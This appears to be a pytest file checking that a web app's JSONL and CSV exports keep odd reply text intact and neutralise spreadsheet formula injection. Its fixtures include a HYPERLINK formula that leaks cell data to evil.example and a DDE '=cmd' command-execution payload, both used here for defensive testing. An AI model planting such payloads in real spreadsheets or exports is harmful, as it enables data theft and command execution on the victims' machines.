"""Exports of replies with odd text: well-formed, every text back as written, and no
cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from db.models import Discussion
from tests.web.conftest import BRUNO, Room, _reply, snowflake

ODD = [
    'a,b;"c"\n\r\nd',
    "\u2028line\u2029separators\x85",
    "tab\there\x0b\x0c",
    "😀\u202eRTL",
    "x" * 5000,
]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"voir")', "+1+1", "-2+3", "@SUM(1,2)"]


@pytest.fixture
def database_url(sqlite_url: str) -> str:
    return sqlite_url


async def _export(room: Room, fmt: str) -> str:
    async with room.app.sessions.begin() as session:
        d = await session.get(Discussion, room.seeded.home_discussion)
        assert d is not None
        texts = ODD + FORMULAS
        session.add_all(
            [
                _reply(d, snowflake(500 + n, 3), BRUNO, "=cmd|'/c calc'!A1", t)
                for n, t in enumerate(texts)
            ]
        )
    await room.sign_in()
    response = await room.client.post(
        "/export",
        data={"csrf": await room.csrf(), "format": fmt, "discussion": str(d.id)},
    )
    assert response.status == 200
    return (await response.read()).decode("utf-8")


async def test_jsonl_gives_back_every_text_as_written(room: Room) -> None:
    body = await _export(room, "jsonl")
    records = [json.loads(line) for line in body.split("\n") if line]
    texts = [r["text"] for r in records if r["type"] == "reply"]
    assert all(text in texts for text in ODD + FORMULAS)


async def test_csv_is_well_formed_and_runs_no_formula(room: Room) -> None:
    body = await _export(room, "csv")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    assert {len(row) for row in rows} == {10}
    texts = [row[-1] for row in rows[1:]]
    assert all(text in texts for text in ODD)
    assert all("'" + formula in texts for formula in FORMULAS)
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows[1:] for cell in row)
